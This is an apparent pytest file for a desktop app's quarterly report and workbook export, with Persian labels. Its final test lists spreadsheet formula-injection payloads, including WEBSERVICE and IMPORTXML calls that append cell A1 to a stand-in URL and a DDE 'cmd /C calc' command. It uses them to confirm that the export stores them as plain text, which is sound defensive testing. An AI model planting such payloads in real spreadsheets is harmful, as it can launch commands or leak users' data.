"""The papers of a quarter: figures of A13 on PDF and in the workbook, safe in any spreadsheet."""

from __future__ import annotations

from datetime import timedelta
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy.orm import Session

from desktop.documents.programme_sheets import fill, quarter_workbook
from desktop.documents.programmes import quarter_report
from desktop.documents.visit_papers import Origin
from desktop.models.programmes.frequency import quarter_span, weeks_of
from desktop.models.programmes.pack import QuarterPack, quarter_pack
from tests.builders import NOW
from tests.documents.reading import text_of
from tests.plans import MANAGER, YEAR, ProgrammeOffice, day

ORIGIN = Origin("سازمان نمونهٔ الف", "", NOW, "1.0", "مسئول نمونه")


@pytest.fixture
def pack(tmp_path: Path) -> QuarterPack:
    office = ProgrammeOffice(tmp_path / "vault")
    office.at(day(1, 10))
    plan = office.approved(due={"P2.4": (day(8, 30),)})
    office.at(day(10, 3))
    for month in (7, 8, 9):
        office.accepted(plan, "P2.6", day(month, 10), people={"staff": 40}, title="=1+1")
    for number, saturday in enumerate(weeks_of(*quarter_span(YEAR, 3))):
        if number not in (3, 7):
            when = saturday + timedelta(days=1)
            office.held(plan, "P5.2", when, manager=MANAGER, minutes=125)
    for month in (2, 5):
        office.accepted(plan, "P7.4", day(month, 5))
    shared = office.held(plan, "P3.1", day(8, 5), also=("P3.3",), title="بروشور")
    office.proof(shared)
    with Session(office.owner.database.engine) as session:
        found = quarter_pack(
            session, plan, 3, reader=office.owner.desk.reader, today=office.owner.desk.today
        )
    assert found is not None
    return found


def test_the_report_tells_what_was_due_held_and_late(pack: QuarterPack) -> None:
    paper = quarter_report(pack, ORIGIN)
    assert paper == quarter_report(pack, ORIGIN)
    text = text_of(paper)
    for words in ("۳ از ۳", "۱۱ از ۱۳", "۲ از ۴", "گزارش سه‌ماهه", "بروشور"):
        assert words in text, words
    # Three sessions, eleven meetings and one brochure that serves two actions: fifteen events.
    assert len(pack.events) == 15
    assert len(pack.files) == 4


def test_the_workbook_holds_numbers_and_no_formula(pack: QuarterPack) -> None:
    book = load_workbook(BytesIO(quarter_workbook(pack, NOW)))
    actions, slots, events, evidence = book.worksheets
    assert all(sheet.sheet_view.rightToLeft for sheet in book.worksheets)
    by_code = {row[0]: row for row in actions.iter_rows(min_row=2, values_only=True)}
    assert len(by_code) == 59
    assert by_code["P2.6"][7:9] == (3, 3)
    assert by_code["P5.2"][7:9] == (11, 13)
    assert by_code["P7.4"][4:6] == (2, 4)
    assert by_code["P2.8"][10] == "P2.2"
    assert events.max_row - 1 == 15
    assert evidence.max_row - 1 == 4
    assert slots.max_row > 16
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


FORMULAS = [
    f"{name}({inside})"
    for name in (
        *("SUM", "HYPERLINK", "WEBSERVICE", "IMPORTXML", "IMPORTDATA", "CALL", "EXEC", "DDE"),
        *("INDIRECT", "CONCATENATE", "FILTERXML", "IMAGE", "IMPORTRANGE", "cmd|' /C calc'!A0"),
        "REGISTER.ID",
    )
    for inside in ("1+1", '"http://sample.example/"&A1', "A1:A9", '"۱۲"')
]
PREFIXES = ("=", "+", "-", "@", "\t=", "\r\n=")


def test_no_text_becomes_a_formula_in_the_workbook() -> None:
    """S10: sixty formulas, each with six beginnings, and as what they are in the file itself."""
    typed = [prefix + formula for formula in FORMULAS for prefix in PREFIXES]
    assert len(typed) == 360
    book = Workbook()
    fill(book, "نمونه", ("متن",), [(one,) for one in typed])
    made = BytesIO()
    book.save(made)
    sheet = load_workbook(made)["نمونه"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell.value for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
    with ZipFile(made) as file:
        parts = [file.read(name) for name in file.namelist() if name.startswith("xl/worksheets/")]
    assert parts
    assert not [part for part in parts if b"<f>" in part or b"<f " in part]
